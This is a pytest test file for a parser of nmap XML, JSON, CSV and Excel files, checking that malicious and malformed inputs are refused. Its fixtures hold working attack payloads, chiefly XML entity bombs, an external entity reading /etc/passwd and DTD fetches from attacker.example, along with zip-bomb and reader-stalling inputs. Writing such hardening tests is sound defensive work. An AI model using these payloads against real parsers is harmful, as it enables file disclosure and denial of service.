"""Files that mean harm, or are so broken that they might as well."""

import io
import struct
import zipfile
import zlib

import pytest

from hisaar.discovery.formats import ReadingRefused
from hisaar.discovery.formats.limits import XML_DEPTH

from .reading import facts_of
from .test_tables import workbook

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + ']><nmaprun scanner="nmap"><host><address addr="&i;"/></host></nmaprun>'
)
EXTERNAL = (
    '<!DOCTYPE nmaprun [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    "<nmaprun><host><status>&x;</status></host></nmaprun>"
)
FETCHED = '<!DOCTYPE nmaprun SYSTEM "http://attacker.example/x.dtd"><nmaprun></nmaprun>'
QUADRATIC = f'<!DOCTYPE nmaprun [<!ENTITY a "{"x" * 50_000}">]><nmaprun>{"&a;" * 50_000}</nmaprun>'
PARAMETER = '<!DOCTYPE nmaprun [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><nmaprun/>'


def refused(name, content, **options):
    with pytest.raises(ReadingRefused) as caught:
        facts_of(name, content if isinstance(content, bytes) else content.encode(), **options)
    sentence = str(caught.value)
    assert sentence.endswith(".")
    assert sentence[0].isalpha()
    assert len(sentence) < 900
    return sentence


@pytest.mark.parametrize("content", [LAUGHS, EXTERNAL, FETCHED, QUADRATIC, PARAMETER])
def test_entities_and_document_types_are_refused(content):
    assert "declares a document type" in refused("scan.xml", content)


def test_an_entity_that_nothing_declares_is_refused():
    assert "not whole XML" in refused("s.xml", "<nmaprun><host>&x;</host></nmaprun>")


@pytest.mark.parametrize("opening", ["<host>", "<a>"])
def test_a_hundred_thousand_levels_are_refused(opening):
    assert f"more than {XML_DEPTH} deep" in refused("s.xml", "<nmaprun>" + opening * 100_000)


def test_a_host_without_end_is_refused():
    text = "<nmaprun><host>" + "<a/>" * 300_000

    assert "an entry of more than 200,000 elements" in refused("s.xml", text)


def test_attributes_without_end_are_refused():
    attributes = " ".join(f'a{number}="1"' for number in range(300))

    assert "more than 200 attributes" in refused(
        "s.xml", f"<nmaprun><host {attributes}/></nmaprun>"
    )


def test_one_endless_mark_is_refused():
    text = f'<nmaprun><host a="{"x" * 6_000_000}"/></nmaprun>'

    assert "a single mark of more than 2 MB" in refused("s.xml", text)


def test_a_text_without_end_is_refused():
    text = f"<nmaprun><host>{'x' * 5_000_000}</host></nmaprun>"

    assert "a text of more than 4 MB" in refused("s.xml", text)


@pytest.mark.parametrize("depth", [2_000, 100_000])
def test_json_nested_too_deeply_is_refused(depth):
    assert "is not valid JSON" in refused("b.json", "[" * depth + "]" * depth)


def test_json_larger_than_what_is_parsed_is_refused():
    assert "at most 64 MB are read" in refused("b.json", b"[" + b"1," * 34_000_000 + b"1]")


@pytest.mark.parametrize("head", [b"\x1f\x8b\x08\x00", b"BZh9", b"Rar!\x1a", b"7z\xbc\xaf"])
def test_packed_files_are_refused(head):
    assert "is packed; unpack it" in refused("scan.xml.gz", head + b"0" * 100)


def packed(parts):
    """Return a zip of parts."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def parts_of(content):
    """Return the parts of a workbook."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


GOOD = workbook([["Emp No", "Name", "Dept"], ["1", "Asim", "IT"]])


def test_a_workbook_that_unpacks_without_end_is_refused():
    parts = parts_of(GOOD)
    parts["xl/sharedStrings.xml"] = b"<sst>" + b" " * 60_000_000 + b"</sst>"

    assert "unpacks to far more data" in refused("staff.xlsx", packed(parts))


def test_a_workbook_with_entities_is_refused():
    parts = parts_of(GOOD)
    parts["xl/workbook.xml"] = b'<!DOCTYPE x [<!ENTITY a "b">]>' + parts["xl/workbook.xml"]

    assert "declares document types" in refused("staff.xlsx", packed(parts))


def test_a_zip_that_is_no_workbook_is_refused():
    assert "is not an Excel workbook" in refused("staff.xlsx", packed({"a.txt": b"x"}))
    assert "is damaged" in refused("staff.xlsx", GOOD[: len(GOOD) // 2])


def test_a_zip_whose_part_lies_about_its_size_is_refused():
    content = bytearray(GOOD)
    at = content.find(b"PK\x01\x02")
    struct.pack_into("<L", content, at + 24, 3)  # the size that the directory promises

    assert "is damaged" in refused("staff.xlsx", bytes(content))


def test_an_old_or_locked_workbook_is_refused():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

    assert "of an old Excel version" in refused("staff.xls", ole + b"\0" * 600)
    locked = ole + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")
    assert "protected by a password" in refused("staff.xlsx", locked)


def test_a_line_without_end_is_refused():
    content = b"Emp No,Name,Dept\n1,Asim,IT\n2," + b"x" * 5_000_000

    assert "a line of more than 4 MB" in refused("staff.csv", content)


def test_a_quotation_mark_that_is_never_closed_is_refused():
    content = b'Emp No,Name,Dept\n1,Asim,IT\n2,"Sana,IT\n' + b"3,x,IT\n" * 200_000

    assert "quotation mark that was opened is probably never closed" in refused("s.csv", content)


def test_binary_files_are_refused():
    refused("staff.csv", b"Emp No,Name\x00,Dept\n1,Asim,IT\n")
    refused("x.bin", zlib.compress(b"x" * 1000))


def test_a_refusal_halfway_comes_after_the_facts_before_it():
    from hisaar.discovery.formats import read

    head = "<nmaprun>" + '<host><address addr="192.0.2.1" addrtype="ipv4"/></host>' * 3_000
    reading = read("scan.xml", (head + "<host><broken").encode())

    seen = []
    with pytest.raises(ReadingRefused, match="not whole XML"):
        seen.extend(reading.facts)
    facts = read("scan.xml", (head + "<host><broken").encode()).facts
    assert next(facts).key == "192.0.2.1"


@pytest.mark.parametrize("filling", [";", " ", "1 ", "1/", "CN=", "\\;", "a@", "=", "|", "35202-"])
def test_a_cell_of_one_mark_repeated_does_not_stall_a_reader(filling):
    cell = f"CN={filling * (900_000 // len(filling))}x"
    head = "SamAccountName,SID,Enabled,LastLogonDate,MemberOf,Name"

    facts_of(
        "users.csv", f'{head}\na,S-1-5-21-1-2-3-4,True,"1/{cell}","{cell}","{cell}"\n'.encode()
    )


def test_unescaped_separators_part_names_and_escaped_ones_do_not():
    head = "SamAccountName,SID,Enabled,MemberOf"
    line = r'a,S-1-5-21-1-2-3-4,True,"CN=A\;B,DC=x;CN=C,DC=x|CN=D,DC=x"'

    _, facts = facts_of("users.csv", f"{head}\n{line}\n".encode())

    assert [fact.values["title"] for fact in facts if fact.subject == "entitlement"] == [
        "A;B",
        "C",
        "D",
    ]
